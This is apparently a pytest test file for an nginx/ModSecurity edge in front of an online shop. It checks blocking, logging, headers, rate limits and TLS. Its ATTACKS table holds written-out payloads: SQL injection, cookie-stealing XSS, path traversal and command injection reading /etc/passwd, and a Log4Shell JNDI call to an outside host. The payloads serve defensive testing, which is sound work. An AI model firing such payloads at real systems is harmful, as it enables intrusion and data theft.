"""The rendered edge before a shop: attacks stop here, shoppers do not notice it."""

from __future__ import annotations

import json
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlencode

import pytest
from tests.protect.edge.edge_nginx import MODULE, Edge, running_edge

from shangdun.lake.block import Block
from shangdun.lake.parse import get_parser
from shangdun.protect.edge.nginx import HEADERS
from shangdun.protect.edge.settings import RouteClass

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not MODULE.exists(), reason="nginx has no ModSecurity here: make test"),
]

FORM = {"Content-Type": "application/x-www-form-urlencoded"}
JSON = {"Content-Type": "application/json"}


@pytest.fixture(scope="module")
def edge(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Edge]:
    with running_edge(tmp_path_factory.mktemp("edge"), inspect="block") as running:
        yield running


ATTACKS = {
    "sql in the query": "/search?q=" + "1%27%20UNION%20SELECT%20password%20FROM%20users--%20",
    "script in the query": "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "traversal": "/download?file=../../../../etc/passwd",
    "command": "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "log4shell": "/?x=$%7Bjndi:ldap://203.0.113.1/a%7D",
}


@pytest.mark.parametrize("target", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_stops_at_the_edge(edge: Edge, target: str) -> None:
    before = len(edge.seen)
    assert edge.ask(target).status == 403
    assert len(edge.seen) == before


HONEST: dict[str, tuple[str, str, bytes | None, dict[str, str]]] = {
    "a search": ("GET", "/search?q=select+a+size+from+the+list", None, {}),
    "a Chinese search": ("GET", "/search?q=%E6%89%8B%E6%9C%BA%E5%A3%B3", None, {}),
    "a checkout with odd names": (
        "POST",
        "/checkout/address",
        urlencode({
            "first_name": "Sinéad", "last_name": "O'Brien; & Sons", "line1": "Unit 4; c/o Ann",
            "notes": "ring twice -- the bell is broken; cat in the yard", "postcode": "100000",
        }).encode(),
        FORM,
    ),
    "a password with every sign": (
        "POST",
        "/account/save",
        urlencode({"password": "' or 1=1; <script> ../../etc/passwd $(id)"}).encode(),
        FORM,
    ),
    "a product in the editor": (
        "POST",
        "/admin/product/7",
        urlencode({"description": "<p style='color:red'>New <b onclick='x()'>it</b></p>"}).encode(),
        FORM,
    ),
    "a payment callback in XML": (
        "POST",
        "/pay/notify",
        b"<xml><return_code><![CDATA[SUCCESS]]></return_code><sign>a'b--c;d</sign></xml>",
        {"Content-Type": "text/xml"},
    ),
    "a payment callback of an odd type": (
        "POST",
        "/payment/callback",
        b'{"event": "paid", "data": "select 1; drop table x --"}',
        {"Content-Type": "text/plain"},
    ),
    "a return from the payment page": (
        "GET",
        "/order/done?" + urlencode({
            "return_url": "https://shop.test/thanks?x=1", "sign": "pSq'--+//u==", "total": "88.00",
        }),
        None,
        {},
    ),
    "cookies of measuring tools": (
        "GET",
        "/",
        None,
        {"Cookie": "_ga=GA1.1.1--2;_ga_X='or 1=1;cookie_consent={\"a\":\"<b>\"}; sessionid=abc"},
    ),
    "a cart in JSON": ("PUT", "/api/cart/7", b'{"items": [{"sku": "A-1", "number": 2}]}', JSON),
}  # fmt: skip


@pytest.mark.parametrize("case", HONEST.values(), ids=HONEST)
def test_a_shopper_does_not_notice_the_edge(
    edge: Edge, case: tuple[str, str, bytes | None, dict[str, str]]
) -> None:
    method, target, body, headers = case
    assert edge.ask(target, method=method, body=body, headers=headers).status == 200


def test_what_is_excluded_at_one_route_is_not_at_another(edge: Edge) -> None:
    body = urlencode({"description": "<p onclick='alert(1)'>x</p><script>alert(1)</script>"})
    answer = edge.ask("/review/add", method="POST", body=body.encode(), headers=FORM)
    assert answer.status == 403


def told(folder: Path, words: bytes) -> bytes:
    """The audit log, once it holds these words: it is written after the answer."""
    for _ in range(100):
        if words in (data := (folder / "log" / "modsecurity.json").read_bytes()):
            return data
        time.sleep(0.05)
    raise AssertionError(f"the audit log does not tell of {words!r}")


def test_the_audit_log_is_read_by_its_source_and_holds_no_bodies(edge: Edge) -> None:
    body = urlencode({"card": "4111111111111111", "q": "1' union select a from b-- "}).encode()
    assert edge.ask("/search", method="POST", body=body, headers=FORM).status == 403
    data = told(edge.folder, b"select a from b")
    parsed = get_parser("modsecurity").parse(Block(data))
    assert not parsed.dead
    assert parsed.events["action_id"].to_list()[-1] == 2
    assert b"4111111111111111" not in data


def test_headers_stand_on_every_answer_and_none_tells_what_runs_here(edge: Edge) -> None:
    for target, status in (("/", 200), (ATTACKS["traversal"], 403), ("/.git/config", 404)):
        answer = edge.ask(target)
        assert answer.status == status
        for name, value in HEADERS.items():
            assert answer.headers[name] == value
        assert "X-Powered-By" not in answer.headers
        assert answer.headers["Server"] == "nginx"


def test_what_a_customer_claims_about_his_address_ends_here(edge: Edge) -> None:
    edge.ask("/", headers={"X-Forwarded-For": "198.51.100.7", "X-Real-IP": "198.51.100.7"})
    assert edge.seen[-1]["X-Forwarded-For"] == edge.seen[-1]["X-Real-IP"] == "127.0.0.1"


@pytest.mark.parametrize("target", ["/.env", "/a/.svn/x", "/dump.sql", "/site.tar.gz.bak"])
def test_what_was_left_lying_about_is_not_served(edge: Edge, target: str) -> None:
    assert edge.ask(target).status == 404


def test_odd_methods_and_strangers_are_turned_away(edge: Edge) -> None:
    assert edge.ask("/", method="TRACE").status == 405
    with pytest.raises((ConnectionError, OSError, __import__("http").client.BadStatusLine)):
        edge.ask("/", headers={"Host": "other.test"})


def test_one_address_is_slowed_by_class_and_the_others_go_on(tmp_path: Path) -> None:
    login = RouteClass(name="login", routes=["*/login"], per_minute=1, burst=2)
    with running_edge(tmp_path, inspect="off", classes=[login]) as edge:
        tried = [edge.ask("/account/login", method="POST").status for _ in range(6)]
        assert tried == [200, 200, 200, 429, 429, 429]
        assert [edge.ask("/").status for _ in range(20)] == [200] * 20


def test_observing_turns_nobody_away_but_tells(tmp_path: Path) -> None:
    with running_edge(tmp_path, inspect="observe") as edge:
        assert edge.ask(ATTACKS["sql in the query"]).status == 200
        assert json.loads(told(tmp_path, b"UNION").splitlines()[0])["transaction"]["messages"]


def test_tls_is_spoken_with_those_who_know_our_name(tmp_path: Path) -> None:
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1",
         "-nodes", "-days", "2", "-subj", "/CN=shop.test",
         "-keyout", str(tmp_path / "key.pem"), "-out", str(tmp_path / "cert.pem")],
        check=True, capture_output=True,
    )  # fmt: skip
    more = {
        "certificate": str(tmp_path / "cert.pem"),
        "certificate_key": str(tmp_path / "key.pem"),
    }
    with running_edge(tmp_path, inspect="off", tls="intermediate", **more) as edge:
        answer = edge.ask("/")
        assert answer.headers["Strict-Transport-Security"] == "max-age=31536000"
        assert edge.seen[-1]["X-Forwarded-Proto"] == "https"
        for version, spoken in (("-tls1_1", False), ("-tls1_2", True), ("-tls1_3", True)):
            assert _speaks(edge.port, version, "shop.test") is spoken
        assert not _speaks(edge.port, "-tls1_3", "other.test")


def _speaks(port: int, version: str, name: str) -> bool:
    command = ["openssl", "s_client", "-connect", f"127.0.0.1:{port}", version, "-servername", name]
    done = subprocess.run(command, input=b"Q\n", capture_output=True, check=False)
    return b"Cipher is (NONE)" not in done.stdout and b"BEGIN CERTIFICATE" in done.stdout
